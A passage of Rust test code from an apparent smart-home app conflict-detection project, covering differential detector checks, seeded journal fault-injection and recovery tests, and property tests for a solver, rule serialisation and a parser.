            // views agree after the post-restore upgrade — an ingest of
            // any source yields an analysis identical to what `rules_of`
            // then serves.
            let (_, v1_source) = live[h].first().unwrap().clone();
            let revived = restored.store().ingest(&v1_source, &name).unwrap();
            assert_eq!(
                restored.store().rules_of(&name).unwrap(),
                revived.rules,
                "seed {seed} home {h}: stale fingerprint served a dead analysis"
            );
        }
    }

    // The properties must not hold vacuously.
    assert!(uninstalls >= 8, "only {uninstalls} uninstalls exercised");
    assert!(upgrades >= 8, "only {upgrades} upgrades exercised");
    assert!(rankings >= 4, "only {rankings} priority rankings exercised");
    assert!(
        dropped_rank_events >= 2,
        "only {dropped_rank_events} upgrades dropped dangling ranks"
    );
    assert!(
        nonempty_mediation >= 6,
        "only {nonempty_mediation} homes ended with live mediation points"
    );
    assert!(
        mediated_runs >= 4,
        "only {mediated_runs} replays actually mediated anything"
    );
}
