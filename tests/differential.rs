//! Differential test: indexed incremental detection must report the
//! *identical* threat set as exhaustive pairwise detection.
//!
//! The candidate index (`hg_detector::CandidateIndex`) prunes rule pairs
//! before any per-pair analysis. Its correctness claim — pruned pairs can
//! never produce a threat — is proven here by running the full
//! benign+malicious corpus store audit both ways and comparing the exact
//! threat sets (kind + rule pair + direction), app by app as the
//! population accumulates.

use hg_detector::{DetectStats, DetectionEngine, Detector, Threat, ThreatKind, Unification};
use hg_rules::rule::Rule;
use hg_symexec::{extract, ExtractorConfig};
use std::collections::BTreeMap;

/// A canonical, comparable form of one threat: kind + endpoints. Undirected
/// kinds normalize their endpoint order so a pair reported as (A,B) by one
/// strategy and (B,A) by the other still matches.
fn key(t: &Threat) -> (ThreatKind, String, String) {
    let s = t.source.to_string();
    let d = t.target.to_string();
    if t.kind.is_directed() || s <= d {
        (t.kind, s, d)
    } else {
        (t.kind, d, s)
    }
}

fn sorted_keys(threats: &[Threat]) -> Vec<(ThreatKind, String, String)> {
    let mut keys: Vec<_> = threats.iter().map(key).collect();
    keys.sort();
    keys
}

/// Extracts every benign + malicious corpus app that yields rules.
fn corpus_rule_sets() -> Vec<(String, Vec<Rule>)> {
    let config = ExtractorConfig::extended();
    let mut out = Vec::new();
    for app in hg_corpus::benign_apps() {
        if let Ok(analysis) = extract(app.source, app.name, &config) {
            if !analysis.rules.is_empty() {
                out.push((analysis.name.clone(), analysis.rules));
            }
        }
    }
    for app in hg_corpus::MALICIOUS_APPS {
        if let Ok(analysis) = extract(app.source, app.name, &config) {
            if !analysis.rules.is_empty() {
                out.push((format!("mal::{}", analysis.name), analysis.rules));
            }
        }
    }
    out
}

fn run_differential(detector: Detector) -> (DetectStats, DetectStats) {
    let sets = corpus_rule_sets();
    assert!(sets.len() > 50, "corpus suspiciously small: {}", sets.len());

    let mut engine = DetectionEngine::new(detector);
    let mut indexed_stats = DetectStats::default();
    let mut exhaustive_stats = DetectStats::default();
    for (name, rules) in &sets {
        let (indexed, si) = engine.check(rules);
        let (exhaustive, se) = engine.check_exhaustive(rules);
        assert_eq!(
            sorted_keys(&indexed),
            sorted_keys(&exhaustive),
            "threat sets diverge at install of {name}"
        );
        indexed_stats.absorb(si);
        exhaustive_stats.absorb(se);
        engine.install_rules(rules);
    }
    (indexed_stats, exhaustive_stats)
}

#[test]
fn indexed_equals_exhaustive_store_wide() {
    let (indexed, exhaustive) = run_differential(Detector::store_wide());

    // The audit must be non-trivial...
    assert!(exhaustive.pairs > 5_000, "{exhaustive:?}");
    // ...the index must not have added pair visits...
    assert!(indexed.pairs <= exhaustive.pairs);
    // ...and the identical-threat-set assertions above prove correctness.
    // The headline: the index skips more than half of all rule pairs, each
    // of which costs at least one merged-situation solve in a filterless
    // detector.
    assert!(
        indexed.pruned >= exhaustive.pairs / 2,
        "index pruned {} of {} pairs — less than half",
        indexed.pruned,
        exhaustive.pairs
    );
    // Sanity: pruned + visited covers exactly the exhaustive pair count.
    assert_eq!(indexed.pairs + indexed.pruned, exhaustive.pairs);
    // Identical solver work on the visited pairs.
    assert_eq!(indexed.solves, exhaustive.solves);
}

#[test]
fn indexed_equals_exhaustive_with_bindings() {
    // Deployment-style unification: bind every input slot of every app to a
    // synthetic device shared by slot name, so bindings actually merge
    // devices across apps (and differently than by-type unification).
    let config = ExtractorConfig::extended();
    let mut bindings = BTreeMap::new();
    for app in hg_corpus::device_control_apps() {
        if let Ok(analysis) = extract(app.source, app.name, &config) {
            for input in &analysis.inputs {
                bindings.insert(
                    (analysis.name.clone(), input.name.clone()),
                    format!("dev-{}", input.name),
                );
            }
        }
    }
    let detector = Detector {
        unification: Unification::Bindings(bindings),
        ..Detector::default()
    };
    let (indexed, exhaustive) = run_differential(detector);
    assert!(exhaustive.pairs > 5_000);
    assert_eq!(indexed.pairs + indexed.pruned, exhaustive.pairs);
    assert_eq!(indexed.solves, exhaustive.solves);
}
