//! Seeded I/O-chaos differential harness for the journal failure policy
//! (companion to `journal_fuzz.rs`, which crashes the storage — this one
//! makes the storage *lie* while the fleet is live). A deterministic
//! [`FaultPlan`] arms a [`FaultBackend`] over the journal's real
//! [`MemBackend`], injecting transient errors, permanent errors, torn
//! short writes and disk-full onset at exact backend-operation counts
//! while a seeded churn script drives the fleet. The invariants:
//!
//! * **zero panics** — every fault surfaces as a typed error
//!   ([`HgError::Degraded`] before state moves, [`HgError::Journal`]
//!   after) or is absorbed by bounded retry;
//! * **no silent WAL divergence** — while the journal is active, every
//!   operation boundary recovers **bit-identically** from a fork of the
//!   true backend bytes; once quarantined, recovery lands exactly on the
//!   durable prefix the quarantine named;
//! * **degraded fleets keep serving** — reads and detection probes answer
//!   while writes are refused, and under
//!   [`DegradedPolicy::ServeUnjournaled`] writes keep committing without
//!   appends;
//! * **heal closes the gap** — [`Fleet::heal_journal`] over a recovered
//!   backend re-arms the journal with a fresh full checkpoint, after
//!   which a kill/recover is bit-identical to the live fleet again;
//! * **unarmed chaos is free** — a fault-free [`FaultBackend`] is
//!   bit-for-bit pass-through: same snapshots, same backend bytes.

use hg_config::ConfigInfo;
use hg_journal::{
    DegradedPolicy, FaultBackend, FaultKind, FaultPlan, Journal, JournalBackend, JournalConfig,
    MemBackend,
};
use hg_service::{Fleet, HomeId, PolicyTable, RuleStore};
use homeguard_core::{HandlingPolicy, HgError};
use std::collections::BTreeMap;
use std::sync::Arc;

/// SplitMix64, as in `tests/properties.rs` and the fault plans themselves.
struct Gen {
    state: u64,
}

impl Gen {
    fn new(seed: u64) -> Gen {
        Gen {
            state: seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) ^ 0xd1b5_4a32_d192_ed03,
        }
    }

    fn next(&mut self) -> u64 {
        self.state = self.state.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.state;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn range(&mut self, lo: usize, hi: usize) -> usize {
        lo + (self.next() % (hi - lo) as u64) as usize
    }
}

/// Synthetic palette, as in `journal_fuzz.rs`.
const SENSORS: [(&str, &str, &str); 3] = [
    ("capability.motionSensor", "motion", "active"),
    ("capability.contactSensor", "contact", "open"),
    ("capability.waterSensor", "water", "wet"),
];

const ACTUATORS: [(&str, &str, [&str; 2]); 3] = [
    ("capability.switch", "lamp", ["on", "off"]),
    ("capability.alarm", "siren", ["siren", "off"]),
    ("capability.lock", "door", ["lock", "unlock"]),
];

fn palette_name(sensor: usize, actuator: usize) -> String {
    format!("App{sensor}{actuator}")
}

fn palette_source(sensor: usize, actuator: usize, command: usize) -> String {
    let (s_cap, s_attr, s_val) = SENSORS[sensor];
    let (a_cap, a_title, commands) = ACTUATORS[actuator];
    let cmd = commands[command];
    let name = palette_name(sensor, actuator);
    format!(
        r#"
definition(name: "{name}")
input "t", "{s_cap}"
input "a", "{a_cap}", title: "{a_title}"
def installed() {{ subscribe(t, "{s_attr}.{s_val}", h) }}
def h(evt) {{ a.{cmd}() }}
"#
    )
}

/// Zero-backoff retry policy so exhaustion paths run at test speed.
fn chaos_config(degraded: DegradedPolicy) -> JournalConfig {
    JournalConfig {
        max_io_attempts: 3,
        backoff_micros: 0,
        degraded,
        ..JournalConfig::default()
    }
}

/// A journaled fleet whose backend can be sabotaged mid-flight. The fault
/// layer starts **unarmed** so the attach-time baseline checkpoint always
/// lands; `FaultBackend::arm` starts the scripted chaos afterwards.
fn chaos_fleet(degraded: DegradedPolicy) -> (Fleet, Arc<Journal>, MemBackend, FaultBackend) {
    let mem = MemBackend::new();
    let fault = FaultBackend::new(mem.clone());
    let journal =
        Arc::new(Journal::open_with(Box::new(fault.clone()), chaos_config(degraded)).unwrap());
    let fleet = Fleet::builder(RuleStore::shared()).shards(4).build();
    assert!(fleet.attach_journal(journal.clone()).unwrap());
    (fleet, journal, mem, fault)
}

fn snapshot_text(fleet: &Fleet) -> String {
    fleet.snapshot().unwrap().to_text()
}

/// Is this outcome legal under chaos? Lifecycle noise (already installed,
/// nothing to uninstall), the two fault-policy errors, and success — but
/// never a poisoned shard or a corrupt store.
fn tolerate<T>(outcome: Result<T, HgError>, what: &str) {
    match outcome {
        Ok(_)
        | Err(HgError::Degraded(_))
        | Err(HgError::Journal(_))
        | Err(HgError::AlreadyInstalled(_))
        | Err(HgError::UnknownApp(_))
        | Err(HgError::UnknownHome(_))
        | Err(HgError::UnconfirmedInstall(_)) => {}
        Err(e) => panic!("{what}: unexpected error under chaos: {e}"),
    }
}

/// One seeded churn step against a possibly-degraded fleet. Every error a
/// fault can cause is tolerated; everything else panics the harness.
fn churn_step(fleet: &Fleet, rng: &mut Gen, homes: &mut Vec<HomeId>) {
    let roll = rng.range(0, 100);
    let id = homes[rng.range(0, homes.len())];
    let (sensor, actuator, command) = (rng.range(0, 3), rng.range(0, 3), rng.range(0, 2));
    let name = palette_name(sensor, actuator);
    let source = palette_source(sensor, actuator, command);
    match roll {
        0..=9 => match fleet.create_home() {
            Ok(id) => homes.push(id),
            Err(e) => tolerate::<()>(Err(e), "create_home"),
        },
        10..=14 => match fleet.create_homes(rng.range(1, 4)) {
            Ok(ids) => homes.extend(ids),
            Err(e) => tolerate::<()>(Err(e), "create_homes"),
        },
        15..=49 => match fleet.install_app(id, &source, &name, None) {
            Ok(report) if !report.installed => {
                tolerate(fleet.confirm_install(id, report), "confirm_install");
            }
            other => tolerate(other, "install_app"),
        },
        50..=59 => tolerate(fleet.uninstall_app(id, &name), "uninstall_app"),
        60..=69 => match fleet.upgrade_app(id, &source, &name, None) {
            Ok(report) if !report.installed => {
                tolerate(fleet.confirm_install(id, report), "confirm_upgrade");
            }
            other => tolerate(other, "upgrade_app"),
        },
        70..=74 => {
            if homes.len() > 1 {
                let slot = rng.range(0, homes.len());
                match fleet.remove_home(homes[slot]) {
                    Ok(()) => {
                        homes.remove(slot);
                    }
                    Err(e) => tolerate::<()>(Err(e), "remove_home"),
                }
            }
        }
        75..=81 => {
            let table = match rng.range(0, 3) {
                0 => PolicyTable::block_all(),
                1 => PolicyTable::uniform(HandlingPolicy::Defer { window_ms: 250 }),
                _ => PolicyTable::default(),
            };
            tolerate(fleet.set_handling_policy(id, table), "set_handling_policy");
        }
        82..=86 => {
            let info = ConfigInfo::new(name.clone())
                .bind_device("t", &format!("{:032x}", rng.next()))
                .bind_device("a", &format!("{:032x}", rng.next()));
            tolerate(fleet.record_config(id, &info), "record_config");
        }
        87..=92 => {
            let group: Vec<HomeId> = homes.iter().take(3).copied().collect();
            match fleet.install_many(&group, &source, &name, None) {
                Ok(outcomes) => {
                    for (_, outcome) in outcomes {
                        tolerate(outcome, "install_many outcome");
                    }
                }
                other => tolerate(other.map(|_| ()), "install_many"),
            }
        }
        93..=95 => {
            // Infallible by design: refusals and lapses ride the report.
            fleet.force_uninstall(&name);
        }
        _ => tolerate(
            fleet.propagate_upgrade(&source, &name).map(|_| ()),
            "propagate_upgrade",
        ),
    }
}

/// Recovers a fresh fleet from a fork of the true backend bytes (no fault
/// layer — the disk's content is whatever survived the chaos).
fn recover_fork(mem: &MemBackend) -> (Fleet, Arc<Journal>) {
    let journal = Arc::new(Journal::open(Box::new(mem.fork())).unwrap());
    let fleet = Fleet::recover(journal.clone()).unwrap();
    (fleet, journal)
}

/// The 24-plan sweep: seeded fault scripts over both degraded policies.
/// Whatever the chaos did, the harness must come out the other side with
/// a healable journal and a bit-identical recovery.
#[test]
fn seeded_chaos_plans_never_panic_and_heal_to_bit_identical_recovery() {
    for seed in 1..=24u64 {
        let policy = if seed % 2 == 0 {
            DegradedPolicy::ServeUnjournaled
        } else {
            DegradedPolicy::RefuseWrites
        };
        let (fleet, journal, mem, fault) = chaos_fleet(policy);
        // 5 faults over a 160-op horizon: most plans trip mid-script,
        // some never fire (fault-free runs ride the same assertions).
        fault.arm(FaultPlan::seeded(seed, 160, 5));
        let mut rng = Gen::new(seed ^ 0xc0ffee);
        let mut homes: Vec<HomeId> = (0..3)
            .map(|_| fleet.create_home().expect("pre-chaos"))
            .collect();
        let mut boundaries: BTreeMap<u64, String> = BTreeMap::new();
        for step in 0..28 {
            churn_step(&fleet, &mut rng, &mut homes);
            if step % 9 == 8 {
                // Checkpoints refuse while quarantined; that refusal is
                // part of the policy under test.
                let _ = fleet.checkpoint();
            }
            if !journal.is_quarantined() {
                // Journal and live state agree here: this offset is a
                // crash-recoverable ground truth.
                boundaries.insert(journal.next_offset(), snapshot_text(&fleet));
            }
        }
        let quarantined = journal.is_quarantined();
        if quarantined {
            // The degraded journal froze at its durable prefix: recovery
            // from the true bytes must land exactly on a state the live
            // fleet passed through while still journaled.
            let (recovered, reopened) = recover_fork(&mem);
            let effective = reopened
                .last_checkpoint_offset()
                .unwrap_or(0)
                .max(reopened.next_offset());
            if let Some(expected) = boundaries.get(&effective) {
                assert_eq!(
                    &snapshot_text(&recovered),
                    expected,
                    "seed {seed}: durable-prefix recovery diverges"
                );
            }
            // Operator fixes the disk, the fleet re-arms the journal.
            fault.disarm();
            fleet
                .heal_journal()
                .unwrap_or_else(|e| panic!("seed {seed}: heal: {e}"));
            assert!(!journal.is_quarantined(), "seed {seed}: heal must clear");
        } else {
            fault.disarm();
        }
        // Post-chaos (and post-heal) the journal is live again: new
        // mutations journal normally and a kill/recover is bit-identical.
        let id = fleet.create_home().expect("post-heal create");
        tolerate(
            fleet.install_app(id, &palette_source(0, 0, 0), &palette_name(0, 0), None),
            "post-heal install",
        );
        let (recovered, _) = recover_fork(&mem);
        assert_eq!(
            snapshot_text(&recovered),
            snapshot_text(&fleet),
            "seed {seed} (quarantined={quarantined}): post-heal recovery diverges"
        );
    }
}

/// A permanent fault under `RefuseWrites`: writes answer
/// [`HgError::Degraded`] without touching state, reads and detection
/// probes keep serving, and the quarantine names the durable offset.
#[test]
fn refuse_writes_degrades_writes_but_serves_detection_probes() {
    let (fleet, journal, _mem, fault) = chaos_fleet(DegradedPolicy::RefuseWrites);
    let a = fleet.create_home().unwrap();
    let b = fleet.create_home().unwrap();
    fleet
        .install_app(a, &palette_source(0, 0, 0), &palette_name(0, 0), None)
        .unwrap();
    let before = snapshot_text(&fleet);
    let probe_before = format!("{:?}", fleet.check_install(b, &palette_name(0, 0)).unwrap());

    // The next write op fails permanently (the op counter runs from
    // backend creation, so the plan pins relative to `ops()`): the next
    // append quarantines (state applied, durability lapsed) and
    // everything after is refused.
    fault.arm(FaultPlan::new().at(fault.ops(), FaultKind::Permanent));
    let lapsed = fleet.create_home();
    assert!(
        matches!(lapsed, Err(HgError::Journal(_))),
        "the tripping write reports its lapse: {lapsed:?}"
    );
    assert!(journal.is_quarantined());

    // Writes refuse up front: nothing is applied.
    let homes_before = fleet.len();
    assert!(matches!(fleet.create_home(), Err(HgError::Degraded(_))));
    assert!(matches!(
        fleet.install_app(b, &palette_source(1, 1, 0), &palette_name(1, 1), None),
        Err(HgError::Degraded(_))
    ));
    assert!(matches!(fleet.remove_home(a), Err(HgError::Degraded(_))));
    assert_eq!(fleet.len(), homes_before, "refused writes must not apply");

    // Sweeps refuse per shard without touching homes.
    let rollout = fleet.propagate_upgrade(&palette_source(0, 0, 1), &palette_name(0, 0));
    assert!(matches!(rollout, Err(HgError::Degraded(_))));
    let swept = fleet.force_uninstall(&palette_name(0, 0));
    assert_eq!(swept.refused_shards, fleet.shard_count());
    assert!(swept.removed.is_empty());
    assert!(swept.store_error.is_some(), "store purge refused too");

    // Reads and the detection pipeline still answer, unchanged — the
    // degraded home still guards its devices.
    let probe_after = format!("{:?}", fleet.check_install(b, &palette_name(0, 0)).unwrap());
    assert_eq!(probe_after, probe_before);
    assert_eq!(
        fleet.with_home(a, |h| h.installed_apps()).unwrap(),
        vec![palette_name(0, 0)]
    );
    // The lapsed create was applied before quarantine, so live state is
    // exactly `before` plus one empty home.
    assert_ne!(snapshot_text(&fleet), before);
}

/// Under `ServeUnjournaled` the same quarantine keeps committing writes —
/// without appends — and healing folds the unjournaled tail into a fresh
/// checkpoint that recovery honors.
#[test]
fn serve_unjournaled_commits_without_appends_until_heal() {
    let (fleet, journal, mem, fault) = chaos_fleet(DegradedPolicy::ServeUnjournaled);
    let a = fleet.create_home().unwrap();
    fault.arm(FaultPlan::new().at(fault.ops(), FaultKind::Permanent));
    assert!(fleet.create_home().is_err(), "tripping write lapses");
    assert!(journal.is_quarantined());
    let frozen = journal.next_offset();

    // Writes keep landing; the journal's offset does not move.
    let b = fleet.create_home().expect("unjournaled create serves");
    fleet
        .install_app(b, &palette_source(2, 2, 0), &palette_name(2, 2), None)
        .expect("unjournaled install serves");
    assert_eq!(journal.next_offset(), frozen, "no append while quarantined");
    assert!(fleet.with_home(a, |_| ()).is_ok());

    // Recovery before heal rolls back to the durable prefix — the
    // unjournaled writes are exactly the divergence window…
    let (rolled_back, _) = recover_fork(&mem);
    assert_ne!(snapshot_text(&rolled_back), snapshot_text(&fleet));

    // …and heal closes it: the fresh full checkpoint carries them.
    fault.disarm();
    fleet.heal_journal().unwrap();
    let (recovered, _) = recover_fork(&mem);
    assert_eq!(snapshot_text(&recovered), snapshot_text(&fleet));
}

/// Disk-full onset mid-script: appends quarantine after retries exhaust,
/// the operator "frees space" (`disarm`), heal re-arms, and the journal
/// keeps appending where the durable prefix ended.
#[test]
fn disk_full_quarantines_then_heal_rearms_appends() {
    let (fleet, journal, mem, fault) = chaos_fleet(DegradedPolicy::RefuseWrites);
    let a = fleet.create_home().unwrap();
    fault.arm(FaultPlan::new().at(fault.ops() + 2, FaultKind::DiskFull));
    // Two more write ops land, then ENOSPC onset: one create lapses.
    let mut lapsed = false;
    for _ in 0..6 {
        if fleet.create_home().is_err() {
            lapsed = true;
            break;
        }
    }
    assert!(lapsed, "disk-full must surface");
    assert!(journal.is_quarantined());
    assert!(matches!(fleet.create_home(), Err(HgError::Degraded(_))));

    fault.disarm();
    fleet.heal_journal().unwrap();
    let before = journal.next_offset();
    let b = fleet.create_home().expect("healed journal appends again");
    assert_eq!(journal.next_offset(), before + 1);
    fleet
        .install_app(b, &palette_source(1, 0, 1), &palette_name(1, 0), None)
        .unwrap();
    let (recovered, _) = recover_fork(&mem);
    assert_eq!(snapshot_text(&recovered), snapshot_text(&fleet));
    assert!(fleet.with_home(a, |_| ()).is_ok());
}

/// Torn short writes: half the frame lands, the append retries after a
/// tail repair, and either way the backend never holds bytes that recovery
/// chokes on.
#[test]
fn short_writes_repair_and_recover_cleanly() {
    for ops in [0u64, 1, 3, 5] {
        let (fleet, journal, mem, fault) = chaos_fleet(DegradedPolicy::RefuseWrites);
        fault.arm(FaultPlan::new().at(fault.ops() + ops, FaultKind::ShortWrite));
        let mut rng = Gen::new(ops ^ 0xdead);
        let mut homes: Vec<HomeId> = (0..2)
            .map(|_| fleet.create_home().expect("pre-chaos"))
            .collect();
        for _ in 0..10 {
            churn_step(&fleet, &mut rng, &mut homes);
        }
        // A single repaired short write must never quarantine …
        assert!(
            !journal.is_quarantined(),
            "op {ops}: one transient short write exhausted the retry budget"
        );
        // … and the disk bytes replay to exactly the live fleet.
        let (recovered, _) = recover_fork(&mem);
        assert_eq!(
            snapshot_text(&recovered),
            snapshot_text(&fleet),
            "op {ops}: torn-write recovery diverges"
        );
        assert!(fault.injected() > 0, "op +{ops}: plan must fire");
    }
}

/// An unarmed fault layer is bit-for-bit pass-through: same fleet
/// snapshots, same backend bytes, zero injections — chaos instrumentation
/// cannot perturb a healthy deployment.
#[test]
fn unarmed_fault_backend_is_bit_identical_pass_through() {
    let run = |wrap: bool| -> (String, Vec<(u64, Vec<u8>)>, MemBackend) {
        let mem = MemBackend::new();
        let backend: Box<dyn JournalBackend> = if wrap {
            Box::new(FaultBackend::new(mem.clone()))
        } else {
            Box::new(mem.clone())
        };
        let journal = Arc::new(
            Journal::open_with(backend, chaos_config(DegradedPolicy::RefuseWrites)).unwrap(),
        );
        let fleet = Fleet::builder(RuleStore::shared()).shards(4).build();
        fleet.attach_journal(journal.clone()).unwrap();
        let mut rng = Gen::new(99);
        let mut homes: Vec<HomeId> = (0..3).map(|_| fleet.create_home().unwrap()).collect();
        for step in 0..20 {
            churn_step(&fleet, &mut rng, &mut homes);
            if step % 7 == 6 {
                fleet.checkpoint().unwrap();
            }
        }
        let segments: Vec<(u64, Vec<u8>)> = mem
            .segments()
            .unwrap()
            .into_iter()
            .map(|start| (start, mem.read_segment(start).unwrap()))
            .collect();
        (snapshot_text(&fleet), segments, mem)
    };
    let (plain_snap, plain_segments, _) = run(false);
    let (chaos_snap, chaos_segments, chaos_mem) = run(true);
    assert_eq!(plain_snap, chaos_snap, "live fleets diverge");
    assert_eq!(plain_segments, chaos_segments, "WAL bytes diverge");
    let (recovered, _) = recover_fork(&chaos_mem);
    assert_eq!(snapshot_text(&recovered), chaos_snap);
}
