//! Property-based tests over the core data structures: solver soundness,
//! JSON round-trips, parser/printer round-trips and formula algebra.

use hg_rules::constraint::{CmpOp, Formula, Term};
use hg_rules::value::Value;
use hg_rules::varid::VarId;
use hg_solver::{Model, Outcome};
use proptest::prelude::*;

fn var(i: usize) -> VarId {
    VarId::env(format!("p{i}"))
}

/// A strategy for small atoms over three integer variables.
fn atom() -> impl Strategy<Value = Formula> {
    (
        0usize..3,
        prop_oneof![
            Just(CmpOp::Eq),
            Just(CmpOp::Ne),
            Just(CmpOp::Lt),
            Just(CmpOp::Le),
            Just(CmpOp::Gt),
            Just(CmpOp::Ge)
        ],
        -50i64..50,
    )
        .prop_map(|(v, op, c)| Formula::cmp(Term::var(var(v)), op, Term::num(c * 100)))
}

/// Small formulas: conjunctions/disjunctions of atoms.
fn formula() -> impl Strategy<Value = Formula> {
    prop::collection::vec(atom(), 1..5).prop_flat_map(|atoms| {
        prop_oneof![
            Just(Formula::and(atoms.clone())),
            Just(Formula::or(atoms.clone())),
            Just(Formula::and([
                Formula::or(atoms.iter().take(2).cloned().collect::<Vec<_>>()),
                Formula::and(atoms.iter().skip(2).cloned().collect::<Vec<_>>()),
            ])),
        ]
    })
}

fn declared_model() -> Model {
    let mut m = Model::new();
    for i in 0..3 {
        m.declare_int(var(i), -10_000, 10_000);
    }
    m
}

/// Evaluates a formula under a concrete assignment.
fn eval(f: &Formula, w: &std::collections::BTreeMap<VarId, Value>) -> bool {
    match f.substitute(&|v| w.get(v).cloned()) {
        Formula::True => true,
        Formula::False => false,
        other => panic!("non-ground formula after substitution: {other}"),
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    /// Soundness: any witness the solver returns actually satisfies the
    /// formula.
    #[test]
    fn solver_witness_satisfies_formula(f in formula()) {
        let model = declared_model();
        if let Outcome::Sat(witness) = model.solve(&f) {
            prop_assert!(eval(&f, &witness), "witness {witness:?} fails {f}");
        }
    }

    /// Completeness on point checks: if we construct a satisfying point,
    /// the solver must not report Unsat.
    #[test]
    fn solver_finds_seeded_solutions(vals in prop::collection::vec(-90i64..90, 3)) {
        // Build a formula that pins each variable to vals[i] via two
        // inequalities, trivially satisfiable.
        let parts: Vec<Formula> = (0..3)
            .map(|i| {
                Formula::and([
                    Formula::cmp(Term::var(var(i)), CmpOp::Ge, Term::num(vals[i] * 100)),
                    Formula::cmp(Term::var(var(i)), CmpOp::Le, Term::num(vals[i] * 100 + 100)),
                ])
            })
            .collect();
        let f = Formula::and(parts);
        let model = declared_model();
        prop_assert!(model.solve(&f).is_sat(), "{f}");
    }

    /// Negation: f ∧ ¬f is always unsatisfiable for atom conjunctions.
    #[test]
    fn formula_and_negation_unsat(f in atom()) {
        let model = declared_model();
        let both = Formula::and([f.clone(), f.negate()]);
        prop_assert_eq!(model.solve(&both), Outcome::Unsat);
    }

    /// JSON round-trip for rule files built from random formulas.
    #[test]
    fn rule_json_roundtrip(f in formula(), delay in 0u64..10_000) {
        use hg_rules::rule::*;
        use hg_rules::varid::DeviceRef;
        let dev = DeviceRef::bound("0e0b741b");
        let rule = Rule {
            id: RuleId::new("PropApp", 0),
            trigger: Trigger::DeviceEvent {
                subject: dev.clone(),
                attribute: "switch".into(),
                constraint: Some(f.clone()),
            },
            condition: Condition { data_constraints: vec![], predicate: f },
            actions: vec![Action::device(dev, "on").after(delay)],
        };
        let text = hg_rules::json::rules_to_text(std::slice::from_ref(&rule));
        let back = hg_rules::json::rules_from_text(&text).unwrap();
        prop_assert_eq!(back, vec![rule]);
    }

    /// The Groovy pretty-printer emits re-parseable source for random
    /// expression shapes.
    #[test]
    fn printer_roundtrip_for_comparisons(a in 0i64..1000, b in 0i64..1000, c in "[a-z][a-z0-9]{0,6}") {
        let src = format!("def h(evt) {{ if (({c} > {a}) && ({c} <= {b})) {{ lamp.on() }} }}");
        let p1 = hg_lang::parse(&src).unwrap();
        let printed = hg_lang::pretty::print_program(&p1);
        let p2 = hg_lang::parse(&printed).unwrap();
        prop_assert_eq!(
            hg_lang::pretty::print_program(&p2),
            printed
        );
    }

    /// Scaled fixed-point parsing inverts rendering.
    #[test]
    fn fixed_point_roundtrip(n in -1_000_000i64..1_000_000) {
        use hg_capability::domains::{parse_scaled, unscaled_to_string};
        let text = unscaled_to_string(n);
        prop_assert_eq!(parse_scaled(&text), Some(n));
    }

    /// Detection is symmetric for the undirected categories: swapping the
    /// pair must not change whether an AR/GC/LT is found.
    #[test]
    fn undirected_detection_symmetry(thr in 0i64..60) {
        use hg_detector::{Detector, ThreatKind};
        use hg_symexec::{extract, ExtractorConfig};
        let a = extract(&format!(r#"
input "d", "capability.contactSensor"
input "w", "capability.switch", title: "window opener"
def installed() {{ subscribe(d, "contact.open", h) }}
def h(evt) {{ if (location.mode == "Home") {{ w.on() }} }}
"#), "SymA", &ExtractorConfig::default()).unwrap();
        let b = extract(&format!(r#"
input "d", "capability.contactSensor"
input "t", "capability.temperatureMeasurement"
input "w", "capability.switch", title: "window opener"
def installed() {{ subscribe(d, "contact.open", h) }}
def h(evt) {{ if (t.currentTemperature > {thr}) {{ w.off() }} }}
"#), "SymB", &ExtractorConfig::default()).unwrap();
        let det = Detector::store_wide();
        let (t_ab, _) = det.detect_pair(&a.rules[0], &b.rules[0]);
        let (t_ba, _) = det.detect_pair(&b.rules[0], &a.rules[0]);
        for kind in [ThreatKind::ActuatorRace, ThreatKind::GoalConflict, ThreatKind::LoopTriggering] {
            prop_assert_eq!(
                t_ab.iter().any(|t| t.kind == kind),
                t_ba.iter().any(|t| t.kind == kind),
                "asymmetry for {:?}", kind
            );
        }
    }
}
