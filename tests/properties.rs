//! Property-based tests over the core data structures: solver soundness,
//! JSON round-trips, parser/printer round-trips and formula algebra.
//!
//! The build environment has no crates.io access, so instead of `proptest`
//! these properties run over a seeded in-house generator: each property is
//! checked against 128 pseudo-random cases, deterministic per run so
//! failures reproduce.

use hg_rules::constraint::{CmpOp, Formula, Term};
use hg_rules::value::Value;
use hg_rules::varid::VarId;
use hg_solver::{Model, Outcome};

const CASES: u64 = 128;

/// SplitMix64 — the same tiny deterministic generator the rand shim uses.
struct Gen {
    state: u64,
}

impl Gen {
    fn new(seed: u64) -> Gen {
        Gen {
            state: seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) ^ 0xd1b5_4a32_d192_ed03,
        }
    }

    fn next(&mut self) -> u64 {
        self.state = self.state.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.state;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    /// Uniform draw from `lo..hi`.
    fn range(&mut self, lo: i64, hi: i64) -> i64 {
        assert!(lo < hi);
        lo + (self.next() % (hi - lo) as u64) as i64
    }
}

fn var(i: usize) -> VarId {
    VarId::env(format!("p{i}"))
}

/// A random atom over three integer variables.
fn atom(g: &mut Gen) -> Formula {
    let v = g.range(0, 3) as usize;
    let op = [
        CmpOp::Eq,
        CmpOp::Ne,
        CmpOp::Lt,
        CmpOp::Le,
        CmpOp::Gt,
        CmpOp::Ge,
    ][g.range(0, 6) as usize];
    let c = g.range(-50, 50);
    Formula::cmp(Term::var(var(v)), op, Term::num(c * 100))
}

/// A random small formula: conjunctions/disjunctions of atoms.
fn formula(g: &mut Gen) -> Formula {
    let n = g.range(1, 5) as usize;
    let atoms: Vec<Formula> = (0..n).map(|_| atom(g)).collect();
    match g.range(0, 3) {
        0 => Formula::and(atoms),
        1 => Formula::or(atoms),
        _ => Formula::and([
            Formula::or(atoms.iter().take(2).cloned().collect::<Vec<_>>()),
            Formula::and(atoms.iter().skip(2).cloned().collect::<Vec<_>>()),
        ]),
    }
}

fn declared_model() -> Model {
    let mut m = Model::new();
    for i in 0..3 {
        m.declare_int(var(i), -10_000, 10_000);
    }
    m
}

/// Evaluates a formula under a concrete assignment.
